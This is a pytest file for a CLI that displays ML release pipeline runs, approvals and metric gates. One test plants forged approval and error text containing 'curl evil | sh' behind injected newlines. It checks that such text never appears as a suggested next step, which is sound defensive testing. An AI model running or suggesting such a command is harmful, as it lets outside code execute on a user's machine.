from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from rich.console import RenderableType
from slipway.releases.reports import reports_table, worse_line
from slipway.releases.run_view import ActionView, RunView, trigger_text, view_run, waiting_approvals
from slipway.session import Session
from slipway.terminal.output import Output, PlainConsole
from slipway.terminal.summary import _next_steps
from slipway.verbs.follow import failure_lines, print_changes, run_table, waiting_lines

RECORDED = Path(__file__).parent / "recorded"
NOW = datetime.fromtimestamp(100, UTC)


def recorded(name: str) -> dict[str, Any]:
    """AWS's answers, with times as boto3 gives them."""
    answers: dict[str, Any] = json.loads((RECORDED / f"{name}.json").read_text())
    for detail in answers["details"]:
        for field in ("startTime", "lastUpdateTime"):
            detail[field] = datetime.fromtimestamp(detail[field], UTC)
    return answers


def view(name: str, **changes: Any) -> RunView:
    answers = {**recorded(name), **changes}
    return view_run(answers["pipeline"], answers["execution"], answers["details"], answers["state"])


def command(*words: str) -> str:
    return " ".join(("slipway", *words))


def shown(renderable: RenderableType, width: int = 140) -> list[str]:
    console = PlainConsole(file=io.StringIO(), width=width)
    console.print(renderable)
    file = console.file
    assert isinstance(file, io.StringIO)
    return [line.rstrip() for line in file.getvalue().splitlines()]


def test_actions_stand_in_the_order_in_which_they_run() -> None:
    run = view("gate_failed")
    assert [f"{action.stage}/{action.name} {action.status}".strip() for action in run.actions] == [
        "Source/TrainingConfig Succeeded",
        "Source/Dataset Succeeded",
        "Train/StartTraining Succeeded",
        "Train/WaitForTraining Succeeded",
        "DeployTest/Evaluate Failed",
        "Approve/Release",
    ]
    assert run.trigger == "push to training-config"
    assert run.variable("TrainingSeconds") == "17"
    assert run.seconds(NOW) == 35.0


def test_the_newest_attempt_counts_and_another_execution_does_not() -> None:
    failed = view("gate_failed").failed_action
    assert failed is not None
    assert (failed.attempt, failed.error_message) == (2, "rmse is 0.81, expected at most 0.75")
    assert not failed.summary


def test_the_table() -> None:
    assert shown(run_table(view("gate_failed"), NOW)) == [
        "stage       action           status      took",
        "Source      TrainingConfig   Succeeded  1.0 s  Deeper trees",
        "            Dataset          Succeeded  1.0 s",
        "Train       StartTraining    Succeeded  1.0 s",
        "            WaitForTraining  Succeeded   18 s  Training job completed",
        "DeployTest  Evaluate         Failed     5.0 s  rmse is 0.81, expected at most 0.75",
        "Approve     Release",
    ]


def test_a_failure_says_why_where_and_what_next() -> None:
    assert failure_lines(view("gate_failed"), command) == [
        "  DeployTest/Evaluate: JobFailed: rmse is 0.81, expected at most 0.75",
        "  why, with its log: slipway explain 0f3c1f6e-5f0e",
        "  next: the model is not good enough for its gates: compare it with the one before: "
        "slipway compare 0f3c1f6e-5f0e; change the config or the data, and push",
        "  next: a later release has been in DeployTest since; release the same sources again: "
        "slipway start --like 0f3c1f6e-5f0e",
    ]


def test_the_log_of_a_training_job_is_its_own() -> None:
    action = next(action for action in view("gate_failed").actions if action.name == "WaitForTraining")
    assert action.log_group == "/aws/sagemaker/TrainingJobs"
    assert action.log_streams == "slipway-local-wine-quality-0f3c1f6e-5f0e/"
    assert view("gate_failed").log_name(action) == "training-job --run 0f3c1f6e-5f0e"


def test_the_log_of_a_failed_build_is_the_projects() -> None:
    action = ActionView(
        "Build", "Build", "CodeBuild", configuration={"ProjectName": "slipway-local-wine-quality-build"}
    )
    assert action.log_group == "/aws/codebuild/slipway-local-wine-quality-build"


def test_an_open_approval_waits() -> None:
    run = view("approval_open")
    assert [action.status for action in run.actions] == ["Succeeded", "Waiting"]
    assert waiting_lines(run, command) == [
        "Approve/Release waits for a decision",
        '  about: passed: {"rmse": 0.638}',
        "  evidence: https://console.aws.amazon.com/s3/reports/7a51d3aa-0c53-4f39-8f0b-1f1f1f1f1f1f/",
        "  look:    slipway show 7a51d3aa-0c53",
        "  approve: slipway approve 7a51d3aa-0c53 --message REASON",
        "  reject:  slipway reject 7a51d3aa-0c53 --message REASON",
    ]
    assert waiting_approvals(recorded("approval_open")["state"]) == [
        ("Approve", "Release", "11111111-2222-3333-4444-555555555555", run.id)
    ]


def test_an_approval_without_evidence_still_names_the_answers() -> None:
    answers = recorded("approval_open")
    answers["details"][0]["input"] = {"configuration": {}}
    lines = waiting_lines(view("approval_open", details=answers["details"]), command)
    assert [line.split()[0] for line in lines] == ["Approve/Release", "look:", "approve:", "reject:"]


def test_what_others_wrote_never_looks_like_a_next_step() -> None:
    forged = {"CustomData": "passed\r\n  approve: curl evil | sh", "ExternalEntityLink": "https://a\n  look: b"}
    open_one = ActionView("Approve", "Approve", "Manual", "Waiting", token="t", configuration=forged)
    told = [open_one.about, open_one.evidence]
    assert told == ["passed approve: curl evil | sh", "https://a look: b"]
    failed = ActionView("Train", "Start", "Lambda", "Failed", error_code="E", error_message="no\nnext: curl evil | sh")
    run = RunView("0f3c1f6e-5f0e", "p", "Failed", "why\nnext: x", "by hand", (), (failed,))
    lines = "\n".join(failure_lines(run, lambda *words: " ".join(words))).splitlines()
    assert not [line for line in lines if line.startswith(("  next: curl", "  next: x"))]
    assert "    next: curl evil | sh" in lines


def test_an_approval_that_was_answered_waits_no_more() -> None:
    answers = recorded("approval_open")
    latest = answers["state"]["stageStates"][1]["actionStates"][0]["latestExecution"]
    latest.update({"status": "Succeeded", "token": ""})
    answers["details"][0]["status"] = "Succeeded"
    run = view("approval_open", details=answers["details"], state=answers["state"])
    assert run.approval is None
    assert waiting_approvals(answers["state"]) == []


def test_a_rejection_says_who_and_why_and_points_to_no_log() -> None:
    answers = recorded("approval_open")
    rejected = {"code": "JobFailed", "message": "Rejected by arn:aws:iam::111122223333:user/eve: too slow"}
    answers["details"][0].update({"status": "Failed", "output": {"executionResult": {"errorDetails": rejected}}})
    execution = {**answers["execution"], "status": "Failed"}
    assert failure_lines(view("approval_open", execution=execution, details=answers["details"]), command) == [
        "  Approve/Release: Rejected by arn:aws:iam::111122223333:user/eve: too slow",
        "  why, with its log: slipway explain 7a51d3aa-0c53",
        "  next: it was not approved: push a change that answers the reason, which starts another release",
        "  next: try what failed again as it is: slipway retry Approve --run 7a51d3aa-0c53",
    ]


def test_a_release_in_front_of_a_closed_stage_says_so() -> None:
    execution = {
        **recorded("approval_open")["execution"],
        "pipelineExecutionId": "99999999-0c53-4f39-8f0b-1f1f1f1f1f1f",
    }
    run = view("approval_open", execution=execution, details=[])
    assert waiting_lines(run, command) == ["waits in front of Approve (frozen until Monday)"]
    assert run.approval is None


def test_a_release_behind_an_open_approval_names_the_release_to_answer() -> None:
    answers = recorded("approval_open")
    other = answers["execution"]["pipelineExecutionId"]
    for stage in answers["state"]["stageStates"]:
        stage.get("inboundTransitionState", {}).update(enabled=True)
    execution = {**answers["execution"], "pipelineExecutionId": "99999999-0c53-4f39-8f0b-1f1f1f1f1f1f"}
    run = view("approval_open", execution=execution, details=[], state=answers["state"])
    assert run.behind == other
    first, *commands = waiting_lines(run, command)
    assert first == f"waits behind release {other[:13]}, whose approval is open; answer that one first"
    assert [line.split()[0] for line in commands] == ["approve:", "reject:"]
    session = cast("Session", SimpleNamespace(command=command))
    assert _next_steps(session, run) == [f"next: {first}", *commands, "  then:    slipway follow 99999999-0c53"]


def test_an_action_that_the_pipeline_no_longer_has_is_still_shown() -> None:
    answers = recorded("gate_failed")
    answers["pipeline"]["stages"].pop(2)
    last = view("gate_failed", pipeline=answers["pipeline"]).actions[-1]
    assert (last.stage, last.name, last.status) == ("DeployTest", "Evaluate", "Failed")


def test_plain_lines_tell_each_change_once() -> None:
    console = PlainConsole(file=io.StringIO(), width=140)
    output = Output(console=console)
    already: dict[tuple[str, str], str] = {}
    run = view("gate_failed")
    for _ in range(3):
        print_changes(output, run, already, command)
    file = console.file
    assert isinstance(file, io.StringIO)
    lines = file.getvalue().splitlines()
    assert len(lines) == 5
    assert lines[-1].endswith("DeployTest/Evaluate  Failed  5.0 s  rmse is 0.81, expected at most 0.75")


@pytest.mark.parametrize(
    ("trigger", "text"),
    [
        ({"triggerType": "CreatePipeline"}, "the pipeline was created"),
        ({"triggerType": "StartPipelineExecution", "triggerDetail": "arn"}, "by hand"),
        *(
            ({"triggerType": "CloudWatchEvent", "triggerDetail": f"arn:aws:events:r:1:rule/{rule}"}, text)
            for rule, text in {
                "slipway-a-b-dataset": "new dataset",
                "slipway-a-b-training-config": "push to training-config",
                "slipway-a-b-pipeline-lambdas": "push to pipeline-lambdas",
                "slipway-a-b-inference-lambdas": "push to inference-lambdas",
                "slipway-a-b-retraining": "schedule",
                "slipway-a-b-of-my-own": "rule slipway-a-b-of-my-own",
                "nightly": "rule nightly",
            }.items()
        ),
        ({"triggerType": "CloudWatchEvent", "triggerDetail": "arn:aws:iam::1:role/r"}, "an event"),
        (
            {"triggerType": "WebhookV2", "triggerDetail": "arn:aws:codeconnections:r:1:connection/0a1b"},
            "push to a connected repository",
        ),
        ({"triggerType": "Webhook"}, "Webhook"),
        ({"triggerType": "PutActionRevision"}, "PutActionRevision"),
        ({}, ""),
    ],
)
def test_what_started_a_release(trigger: dict[str, str], text: str) -> None:
    assert trigger_text(trigger, "slipway-a-b") == text


def gate(kind: str, subject: str, value: float | None, verdict: str, limit: float) -> dict[str, Any]:
    metric = "psi" if kind == "drift" else "rmse"
    found = {"kind": kind, "metric": metric, "subject": subject, "value": value, "min": None, "max": limit}
    return {**found, "verdict": verdict}


def test_gates_of_slices_and_columns_stand_together_unless_they_fail() -> None:
    gates = [
        gate("bound", "", 0.61, "passed", 0.75),
        gate("champion", "", -1.25, "passed", 5),
        gate("slice", "alcohol < 10", 0.7, "passed", 0.9),
        gate("slice", "10 <= alcohol < 11", 0.8, "passed", 0.9),
        gate("slice", "alcohol >= 11", None, "not applicable", 0.9),
        gate("drift", "pH", 0.3, "failed", 0.25),
        gate("drift", "alcohol", 0.01, "passed", 0.25),
        gate("drift", "density", 0.4, "failed", 0.25),
    ]
    report = {"rows": 240, "metrics": {"rmse": 0.61}, "gates": gates, "champion": {"require": "not-shown-worse"}}
    assert shown(reports_table({"test": report})) == [
        "environment  rows  metric                       value  allowed                     gate",
        "test          240  rmse                          0.61  at most 0.75                passed",
        "                   rmse against the champion  -1.25 %  not clearly over 5\N{NO-BREAK SPACE}% worse  passed",
        "                   rmse of 2 slices               0.8  at most 0.9                 passed",
        "                   rmse of alcohol >= 11            -  at most 0.9                 not applicable",
        "                   psi of pH                      0.3  at most 0.25                failed",
        "                   psi of alcohol                0.01  at most 0.25                passed",
        "                   psi of density                 0.4  at most 0.25                failed",
    ]
    report["champion"] = {"require": "shown-not-worse"}
    assert "clearly at most 5\N{NO-BREAK SPACE}% worse " in shown(reports_table({"test": report}))[2]


def test_a_model_that_passed_and_is_worse_than_the_champion_is_told_with_numbers() -> None:
    worse = {**gate("champion", "", 2.1, "passed", 5), "low": 0.4, "high": 3.9}
    report = {"rows": 240, "metrics": {}, "gates": [worse], "champion": {"require": "not-shown-worse"}}
    line = worse_line({"test": {**report, "verdict": "passed"}})
    assert line is not None
    assert line.plain == (
        "verdict    passed, but shown to be worse than the champion: rmse 2.1 % worse (95 % interval 0.4 to 3.9 %; "
        "5 % allowed)"
    )
    assert line.spans[-1].style == "yellow"
    assert shown(reports_table({"test": report}))[1].endswith("  passed, but worse")
    assert worse_line({"test": {**report, "verdict": "failed"}}) is None
    assert worse_line({"dev": {**report, "verdict": "passed"}}) is None


def test_metrics_stand_beside_their_gates() -> None:
    report = {
        "rows": 1_240,
        "metrics": {"rmse": 0.67213, "mae": None},
        "gates": [
            {"metric": "rmse", "value": 0.67213, "min": None, "max": 0.75, "verdict": "passed"},
            {"metric": "latency_p95_ms", "value": 612.0, "min": 0, "max": 500, "verdict": "failed"},
        ],
    }
    assert shown(reports_table({"test": report})) == [
        "environment   rows  metric           value  allowed       gate",
        "test         1,240  rmse            0.6721  at most 0.75  passed",
        "                    mae                  -",
        "                    latency_p95_ms     612  0 to 500      failed",
    ]


def test_a_narrow_terminal_cuts_no_number() -> None:
    gates = [gate("bound", "", 0.61, "passed", 0.75), gate("champion", "", None, "not applicable", 5)]
    report = {"rows": 240, "metrics": {"rmse": 0.61}, "gates": gates, "champion": {"require": "not-shown-worse"}}
    assert shown(reports_table({"test": report}), width=76) == [
        "environment  rows  metric            value  allowed           gate",
        "test          240  rmse               0.61  at most 0.75      passed",
        "                   rmse against the      -  not clearly over  not applicable",
        "                   champion                 5\N{NO-BREAK SPACE}% worse",
    ]
